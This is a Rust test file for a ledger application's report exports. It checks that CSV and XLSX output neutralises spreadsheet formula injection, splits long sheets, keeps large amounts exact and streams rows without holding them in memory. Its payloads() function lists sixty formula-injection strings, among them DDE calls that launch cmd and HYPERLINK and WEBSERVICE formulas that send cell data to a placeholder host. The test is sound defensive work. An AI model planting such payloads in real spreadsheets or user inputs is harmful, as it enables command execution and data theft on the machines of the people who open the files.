//! Files for spreadsheets: nothing in them runs, ids stay text, amounts are numbers, further sheets past the limit, and
//! writing them holds no rows.
//! It must never measure the memory of the process that runs the other tests.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use fenzhang::report::{Cell, CsvRows, REGISTRY, Viewer, XlsxRows, cell};
use serde_json::json;

use crate::acceptance::stage::{Stage, fact, paying, with};

/// Every sheet of a workbook, row by row.
pub fn open(bytes: Vec<u8>) -> Vec<Vec<Vec<Data>>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let sheets = book.worksheets();
    sheets
        .into_iter()
        .map(|(_, range)| range.rows().map(<[Data]>::to_vec).collect())
        .collect()
}

/// Sixty texts that some spreadsheet runs, or once did.
pub fn payloads() -> Vec<String> {
    let commands = [
        "cmd|'/C calc'!A0",
        "1+1",
        "HYPERLINK(\"http://x.example/?\"&A1,\"see\")",
        "WEBSERVICE(\"http://x.example\")",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
    ];
    let starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"];
    let all = starts
        .iter()
        .flat_map(|start| commands.iter().map(move |command| format!("{start}{command}")));
    let all: Vec<String> = all.collect();
    assert_eq!(all.len(), 60);
    all
}

/// A spreadsheet takes the field for words.
fn inert(field: &str) -> bool {
    !field.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '|', '%', '＝', '＋', '－', '＠',
    ])
}

fn fields(csv: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(csv).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn sixty_payloads_in_heads_and_cells_come_out_as_words() {
    let payloads = payloads();
    let row: Vec<Cell> = payloads.iter().map(|text| Cell::Text(text.clone())).collect();
    let mut csv = Vec::new();
    let mut rows = CsvRows::start(&mut csv, &payloads).unwrap();
    rows.row(&row).unwrap();
    let mut numbers = vec![Cell::Empty; payloads.len()];
    numbers[0] = Cell::Number("-12.34".into());
    rows.row(&numbers).unwrap();
    rows.finish().unwrap();
    let written = fields(&csv);
    for (payload, (head, field)) in payloads.iter().zip(written[0].iter().zip(&written[1])) {
        assert!(inert(head) && inert(field), "{payload:?} came out as {field:?}");
        assert_eq!(field.strip_prefix('\''), Some(payload.as_str()), "nothing is lost");
    }
    assert_eq!(written[2][0], "-12.34", "a negative amount stays a number");

    let mut book = Cursor::new(Vec::new());
    let mut rows = XlsxRows::start(&payloads).unwrap();
    rows.row(&row).unwrap();
    rows.row(&numbers).unwrap();
    rows.finish(&mut book).unwrap();
    let bytes = book.into_inner();
    let mut formulas: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    assert!(
        formulas.worksheet_formula("1").unwrap().is_empty(),
        "no cell is a formula"
    );
    let sheet = &open(bytes)[0];
    for (at, payload) in payloads
        .iter()
        .enumerate()
        .filter(|(_, payload)| !payload.contains(['\0', '\r']))
    {
        assert_eq!(sheet[0][at], Data::String(payload.clone()));
        assert_eq!(sheet[1][at], Data::String(payload.clone()));
    }
    assert!(sheet[1].iter().all(|cell| matches!(cell, Data::String(_))));
    assert_eq!(sheet[2][0], Data::Float(-12.34));
}

#[tokio::test(flavor = "multi_thread")]
async fn sixty_payloads_in_every_text_that_people_enter_come_out_inert_of_every_report() {
    let stage = Stage::open().await;
    let mut told = 0;
    for (n, payload) in payloads().iter().enumerate() {
        // Names with control characters are refused at the door; those of the others stand in names, titles, categories.
        if payload.contains(char::is_control) {
            continue;
        }
        let party = json!({"kind": "anchor", "external_id": format!("P{n}"), "name": payload});
        stage.accepted("/v1/parties", party).await;
        let shop = json!({"platform": "taobao", "external_id": format!("-s{n}"), "name": payload, "brand": "B"});
        stage.accepted("/v1/shops", shop).await;
        let item = json!({"platform": "taobao", "external_id": format!("-i{n}"), "title": payload, "shop": format!("-s{n}"),
            "category": payload});
        stage.accepted("/v1/products", item).await;
        let line = with(
            paying(&format!("-{n}"), "paid", "2026-05-20T12:05:00+08:00", "199.00"),
            json!({"item_no": format!("-i{n}"), "shop_no": format!("-s{n}"), "promoter": format!("P{n}"), "order_no": format!("-o{n}"),
                "room": format!("-r{n}"), "show": format!("-w{n}")}),
        );
        stage
            .applied(&[line, fact(&format!("-{n}"), "received", "2026-05-24T12:00:00+08:00")])
            .await;
        told += 1;
    }
    assert_eq!(told, 40, "the others hold control characters");
    crate::vtask::drafted(&stage, "b1").await;
    let mut checked = 0;
    for report in REGISTRY.iter().filter(|report| report.name != "entries") {
        let needs = match report.name {
            "earnings" => "&party=P0&by=room",
            "statement" => "&party=P0&period=2026-05",
            "statement-difference" => "&party=P0&period=2026-05&known_at=0",
            "settlement" => "&period=2026-05&kind=anchor",
            "orders" => "&external_id=-o0&external_id=-1",
            "line-ledger" => "&columns=all",
            "contract-income" => "&party=P0",
            "matches" => "&brief=b1",
            _ => "",
        };
        let csv = super::download(&stage, &format!("/v1/reports/{}?format=csv{needs}", report.name), "*/*").await;
        for field in fields(&csv).concat() {
            let amount = field
                .strip_prefix('-')
                .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
            assert!(
                inert(&field) || amount && field.contains('.'),
                "{}: {field:?}",
                report.name
            );
            checked += 1;
        }
    }
    assert!(checked > 5_000, "{checked} fields");
}

#[test]
fn a_guarded_cell_is_guarded_once_and_words_are_left_alone() {
    assert_eq!(
        (cell("=1"), cell("李晓"), cell("1-1")),
        ("'=1".into(), "李晓".into(), "1-1".into())
    );
    assert_eq!(Viewer::All.party(), None);
}

#[test]
fn rows_past_the_limit_of_a_sheet_go_on_in_the_next_one_under_the_same_head() {
    let mut book = Cursor::new(Vec::new());
    let mut rows = XlsxRows::with_limit(&["line_no", "amount"], 101).unwrap();
    for n in 0..250 {
        rows.row(&[
            Cell::Text(format!("39000000000000{n:05}")),
            Cell::Number(format!("{n}.10")),
        ])
        .unwrap();
    }
    rows.finish(&mut book).unwrap();
    let sheets = open(book.into_inner());
    assert_eq!(sheets.iter().map(Vec::len).collect::<Vec<_>>(), [101, 101, 51]);
    for sheet in &sheets {
        assert_eq!(sheet[0][0], Data::String("line_no".into()));
    }
    assert_eq!(
        sheets[1][1],
        [Data::String("3900000000000000100".into()), Data::Float(100.10)]
    );
    assert_eq!(
        sheets[2][50],
        [Data::String("3900000000000000249".into()), Data::Float(249.10)]
    );
}

#[test]
fn an_amount_that_a_cell_cannot_hold_exactly_stays_text() {
    let mut book = Cursor::new(Vec::new());
    let mut rows = XlsxRows::start(&["amount"]).unwrap();
    for amount in ["9999999999999.99", "92233720368547758.07"] {
        rows.row(&[Cell::Number(amount.into())]).unwrap();
    }
    rows.finish(&mut book).unwrap();
    let sheet = &open(book.into_inner())[0];
    assert_eq!(sheet[1][0], Data::Float(9_999_999_999_999.99));
    assert_eq!(sheet[2][0], Data::String("92233720368547758.07".into()));
}

/// Kibibytes that this process has held at most.
fn peak() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// Rows written while the peak is watched; held, they would be several times the bound.
const ROWS: u64 = 120_000;
const BOUND: u64 = 24 * 1024;

/// Set in the process that writes alone: what other tests hold is not in its peak.
const ALONE: &str = "FENZHANG_WRITES_ALONE";

fn write_rows_of_both_kinds() {
    let row = |n: u64| -> Vec<Cell> {
        let texts = (0..8).map(|c| Cell::Text(format!("文字 text {c} of row {n}")));
        texts
            .chain((0..4).map(|c| Cell::Number(format!("{}.0{c}", n * 7))))
            .collect()
    };
    let heads: Vec<String> = (0..12).map(|n| format!("column {n}")).collect();
    let file = tempfile::tempfile().unwrap();
    let mut csv = CsvRows::start(std::io::BufWriter::new(file), &heads).unwrap();
    let mut xlsx = XlsxRows::start(&heads).unwrap();
    let mut before = 0;
    for n in 0..ROWS {
        if n == 2_000 {
            before = peak();
        }
        let row = row(n);
        csv.row(&row).unwrap();
        xlsx.row(&row).unwrap();
    }
    csv.finish().unwrap();
    xlsx.finish(tempfile::tempfile().unwrap()).unwrap();
    let grown = peak() - before;
    assert!(grown < BOUND, "{grown} KiB more after {ROWS} rows than after 2000");
    println!("grown {grown} KiB");
}

#[test]
fn writing_many_rows_holds_none_of_them() {
    if std::env::var_os(ALONE).is_some() {
        return write_rows_of_both_kinds();
    }
    let mut alone = std::process::Command::new(std::env::current_exe().unwrap());
    alone.args([
        "--exact",
        "ledger::sheets::writing_many_rows_holds_none_of_them",
        "--nocapture",
    ]);
    alone.env(ALONE, "1");
    let output = alone.output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success() && text.contains("grown "),
        "{text}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}
